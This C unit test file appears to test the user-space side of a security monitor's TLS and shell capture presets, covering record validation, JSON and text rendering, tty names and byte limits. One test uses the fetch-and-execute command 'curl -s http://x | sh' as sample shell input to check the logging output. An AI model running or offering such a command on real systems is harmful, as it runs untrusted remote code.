// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * test_preset - the TLS and shell presets' user-space side: the decoder's
 * checks of tls and shell records, their JSON and text rendering, terminal
 * names, --max-bytes, and attaching without the sensor loaded.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <cmocka.h>

#include "cli.h"
#include "event.h"
#include "json.h"
#include "output.h"
#include "preset.h"
#include "sensor.h"

static const char msg[] = "GET / HTTP/1.1\r\nHost: x\r\n\r\n";

/* A write of msg from 127.0.0.1:40000 to 127.0.0.1:443; returns its size. */
static size_t tls_event(struct vg_tls *t)
{
	uint32_t lo = htonl(INADDR_LOOPBACK);
	size_t n = strlen(msg);

	memset(t, 0, sizeof(*t));
	t->hdr.type = VG_EV_TLS;
	t->hdr.version = VG_TLS_VERSION;
	t->hdr.size = VG_TLS_FIXED_SIZE + n;
	t->hdr.task.pid = 42;
	t->hdr.task.loginuid = UINT32_MAX;
	memcpy(t->hdr.task.comm, "curl", 5);
	t->ssl = 0x5590b2b216b0ULL;
	t->duration_ns = 1234;
	t->ret = (int)n;
	t->fd = 5;
	t->len = (uint32_t)n;
	t->data_len = (uint32_t)n;
	t->op = VG_TLS_WRITE;
	t->func = VG_TLS_FN_WRITE;
	t->family = AF_INET;
	t->sport = 40000;
	t->dport = 443;
	memcpy(t->saddr, &lo, 4);
	memcpy(t->daddr, &lo, 4);
	memcpy(t->data, msg, n);
	return t->hdr.size;
}

static size_t shell_event(struct vg_shell *sh, const char *line)
{
	memset(sh, 0, sizeof(*sh));
	sh->hdr.type = VG_EV_SHELL;
	sh->hdr.version = VG_SHELL_VERSION;
	sh->hdr.task.pid = 77;
	sh->hdr.task.loginuid = 1000;
	memcpy(sh->hdr.task.comm, "bash", 5);
	sh->sessionid = 3;
	sh->line_len = (uint16_t)strlen(line);
	strcpy(sh->tty, "pts3");
	strcpy(sh->line, line);
	sh->hdr.size = VG_SHELL_FIXED_SIZE + sh->line_len + 1;
	return sh->hdr.size;
}

static void tls_check_validates_lengths(void **state)
{
	static struct vg_tls t;
	const char *why;
	size_t size = tls_event(&t);

	assert_string_equal(vg_event_kind(VG_EV_TLS), "tls");
	assert_int_equal(vg_event_check(&t, size, &why), 0);
	/* the record must end right after the data */
	t.hdr.size = (uint32_t)size + 1;
	assert_int_equal(vg_event_check(&t, size + 1, &why), -EINVAL);
	tls_event(&t);
	t.data_len = VG_TLS_DATA_LEN + 1;
	assert_int_equal(vg_event_check(&t, size, &why), -EINVAL);
	tls_event(&t);
	t.data_len = t.len + 1;		/* more captured than moved */
	assert_int_equal(vg_event_check(&t, size, &why), -EINVAL);
	tls_event(&t);
	t.func = VG_TLS_FN_MAX;
	assert_int_equal(vg_event_check(&t, size, &why), -EINVAL);
	tls_event(&t);
	t.op = 3;
	assert_int_equal(vg_event_check(&t, size, &why), -EINVAL);
	/* no data at all is a valid record (an unreadable buffer) */
	tls_event(&t);
	t.data_len = 0;
	t.flags = VG_TLS_DATA_UNREADABLE | VG_TLS_TRUNCATED;
	t.hdr.size = VG_TLS_FIXED_SIZE;
	assert_int_equal(vg_event_check(&t, VG_TLS_FIXED_SIZE, &why), 0);
	t.hdr.size = VG_TLS_FIXED_SIZE - 8;
	assert_int_equal(vg_event_check(&t, VG_TLS_FIXED_SIZE - 8, &why), -EINVAL);
}

static void shell_check_validates_lengths(void **state)
{
	static struct vg_shell sh;
	const char *why;
	size_t size = shell_event(&sh, "ls -la");

	assert_string_equal(vg_event_kind(VG_EV_SHELL), "shell");
	assert_int_equal(vg_event_check(&sh, size, &why), 0);
	sh.line_len = 5;	/* line[5] is 'a', not the NUL */
	assert_int_equal(vg_event_check(&sh, size, &why), -EINVAL);
	shell_event(&sh, "ls -la");
	sh.hdr.size = (uint32_t)size - 1;
	assert_int_equal(vg_event_check(&sh, size - 1, &why), -EINVAL);
	shell_event(&sh, "ls -la");
	memset(sh.tty, 'x', sizeof(sh.tty));
	assert_int_equal(vg_event_check(&sh, size, &why), -EINVAL);
	shell_event(&sh, "ls -la");
	sh.line_len = VG_SHELL_LINE_LEN;
	assert_int_equal(vg_event_check(&sh, size, &why), -EINVAL);
}

static char *render(enum vg_format fmt, const struct vg_event_hdr *hdr)
{
	struct vg_event_view v = { .hdr = hdr, .exec = (const void *)hdr };
	struct vg_buf b;
	char *s;

	v.proc.task = &hdr->task;
	v.proc.exe = "/usr/bin/x";
	v.proc.cgroup = "";
	v.proc.parent_exe = "";
	vg_buf_init(&b);
	vg_render_event(&b, fmt, &v);
	assert_false(b.oom);
	s = strndup(b.data, b.len);
	vg_buf_release(&b);
	return s;
}

static void tls_render_text_plaintext(void **state)
{
	static struct vg_tls t;
	char *s;

	tls_event(&t);
	s = render(VG_FMT_JSON, &t.hdr);
	assert_non_null(strstr(s, "\"kind\":\"tls\""));
	assert_non_null(strstr(s, "\"tls\":{\"op\":\"write\",\"function\":\"SSL_write\",\"ret\":27,"
				  "\"len\":27,\"captured\":27,\"truncated\":false,"
				  "\"data\":\"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\",\"data_hex\":null,"
				  "\"data_unreadable\":false,\"fd\":5,\"family\":\"ipv4\","
				  "\"saddr\":\"127.0.0.1\",\"sport\":40000,\"daddr\":\"127.0.0.1\","
				  "\"dport\":443,\"socket_cached\":false,\"ssl\":\"0x5590b2b216b0\","
				  "\"duration_ns\":1234}"));
	free(s);
	s = render(VG_FMT_TEXT, &t.hdr);
	assert_non_null(strstr(s, " write SSL_write len=27 fd=5 127.0.0.1:40000 -> 127.0.0.1:443 "
				  "data=\"GET / HTTP/1.1\\x0d\\x0aHost: x\\x0d\\x0a\\x0d\\x0a\""));
	free(s);
}

/* Binary plaintext: "data" cannot carry it, "data_hex" has every byte;
 * truncation, a cached socket and an unknown one are shown. */
static void tls_render_binary_truncated_unknown_socket(void **state)
{
	static struct vg_tls t;
	char *s;

	tls_event(&t);
	memcpy(t.data, "\x00\x00\x12\x04\xff", 5);
	t.data_len = 5;
	t.hdr.size = VG_TLS_FIXED_SIZE + 5;
	t.len = 4096;
	t.ret = 1;
	t.func = VG_TLS_FN_READ_EX;
	t.op = VG_TLS_READ;
	t.flags = VG_TLS_TRUNCATED | VG_TLS_SOCK_CACHED;
	s = render(VG_FMT_JSON, &t.hdr);
	assert_non_null(strstr(s, "\"op\":\"read\",\"function\":\"SSL_read_ex\",\"ret\":1,"
				  "\"len\":4096,\"captured\":5,\"truncated\":true,"
				  "\"data\":\"\\u0000\\u0000\\u0012\\u0004\\ufffd\","
				  "\"data_hex\":\"00001204ff\","));
	assert_non_null(strstr(s, "\"socket_cached\":true"));
	free(s);
	s = render(VG_FMT_TEXT, &t.hdr);
	assert_non_null(strstr(s, " read SSL_read_ex len=4096 fd=5"));
	assert_non_null(strstr(s, "data=\\x00\\x00\\x12\\x04\\xff..."));
	free(s);

	t.fd = -1;
	t.family = 0;
	t.flags = 0;
	s = render(VG_FMT_JSON, &t.hdr);
	assert_non_null(strstr(s, "\"fd\":null,\"family\":null,\"saddr\":null,\"sport\":null,"
				  "\"daddr\":null,\"dport\":null,"));
	free(s);
}

static void shell_render_json_and_text(void **state)
{
	static struct vg_shell sh;
	char *s;

	shell_event(&sh, "curl -s http://x | sh");
	s = render(VG_FMT_JSON, &sh.hdr);
	assert_non_null(strstr(s, "\"kind\":\"shell\""));
	assert_non_null(strstr(s, "\"shell\":{\"line\":\"curl -s http://x | sh\","
				  "\"line_truncated\":false,\"tty\":\"pts/3\",\"loginuid\":1000,"
				  "\"sessionid\":3}"));
	free(s);
	s = render(VG_FMT_TEXT, &sh.hdr);
	assert_non_null(strstr(s, "shell pid=77 "));
	assert_non_null(strstr(s, " tty=pts/3 loginuid=1000 line=\"curl -s http://x | sh\""));
	free(s);

	/* no terminal, no login uid, no session; a truncated line */
	sh.tty[0] = '\0';
	sh.hdr.task.loginuid = UINT32_MAX;
	sh.sessionid = UINT32_MAX;
	sh.flags = VG_SHELL_LINE_TRUNCATED;
	s = render(VG_FMT_JSON, &sh.hdr);
	assert_non_null(strstr(s, "\"line_truncated\":true,\"tty\":null,\"loginuid\":null,"
				  "\"sessionid\":null}"));
	free(s);
	s = render(VG_FMT_TEXT, &sh.hdr);
	assert_non_null(strstr(s, " tty=- line=\"curl -s http://x | sh\"..."));
	free(s);
}

static void tty_display_names(void **state)
{
	char b[16];

	assert_string_equal(vg_tty_display("pts3", b, sizeof(b)), "pts/3");
	assert_string_equal(vg_tty_display("pts12", b, sizeof(b)), "pts/12");
	assert_string_equal(vg_tty_display("pts", b, sizeof(b)), "pts");
	assert_string_equal(vg_tty_display("ptsx1", b, sizeof(b)), "ptsx1");
	assert_string_equal(vg_tty_display("pts1a", b, sizeof(b)), "pts1a");
	assert_string_equal(vg_tty_display("tty1", b, sizeof(b)), "tty1");
	assert_string_equal(vg_tty_display("ttyS0", b, sizeof(b)), "ttyS0");
	assert_string_equal(vg_tty_display("", b, sizeof(b)), "");
	assert_string_equal(vg_tty_display("pts123456789", b, 8), "pts/123");
}

static void names_and_max_bytes(void **state)
{
	static const char *const bad[] = { "0", "4097", "-1", "x", "", "12x", " 5" };
	uint32_t v = 0;

	assert_string_equal(vg_tls_func_name(VG_TLS_FN_READ), "SSL_read");
	assert_string_equal(vg_tls_func_name(VG_TLS_FN_WRITE_EX), "SSL_write_ex");
	assert_null(vg_tls_func_name(0));
	assert_null(vg_tls_func_name(VG_TLS_FN_MAX));
	assert_string_equal(vg_tls_op_name(VG_TLS_READ), "read");
	assert_null(vg_tls_op_name(0));
	assert_int_equal(vg_cli_parse_tls_bytes("1", &v), 0);
	assert_int_equal(v, 1);
	assert_int_equal(vg_cli_parse_tls_bytes("4096", &v), 0);
	assert_int_equal(v, 4096);
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		if (vg_cli_parse_tls_bytes(bad[i], &v) != -EINVAL)
			fail_msg("'%s' accepted", bad[i]);
}

static void json_lossless_is_valid_utf8(void **state)
{
	assert_true(vg_json_lossless("", 0));
	assert_true(vg_json_lossless("a\r\n\t\x01", 5));	/* controls are escaped, kept */
	assert_true(vg_json_lossless("\xc3\xa9t\xc3\xa9", 5));	/* été */
	assert_false(vg_json_lossless("\xff", 1));
	assert_false(vg_json_lossless("\xc3", 1));		/* cut sequence */
	assert_false(vg_json_lossless("\xed\xa0\x80", 3));	/* surrogate */
}

/* Without the sensor loaded there is nothing to attach to: an error, no crash. */
static void attach_without_sensor_fails(void **state)
{
	struct vg_preset_sensor ps = { 0 };
	struct vg_presets p;

	vg_presets_init(&p);
	assert_int_equal(vg_presets_tls(&p, &ps, NULL, 0), -ENOTSUP);
	assert_int_equal(vg_presets_shell(&p, &ps, NULL, 0), -ENOTSUP);
	assert_int_equal(p.n, 0);
	vg_presets_release(&p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(tls_check_validates_lengths),
		cmocka_unit_test(shell_check_validates_lengths),
		cmocka_unit_test(tls_render_text_plaintext),
		cmocka_unit_test(tls_render_binary_truncated_unknown_socket),
		cmocka_unit_test(shell_render_json_and_text),
		cmocka_unit_test(tty_display_names),
		cmocka_unit_test(names_and_max_bytes),
		cmocka_unit_test(json_lossless_is_valid_utf8),
		cmocka_unit_test(attach_without_sensor_fails),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
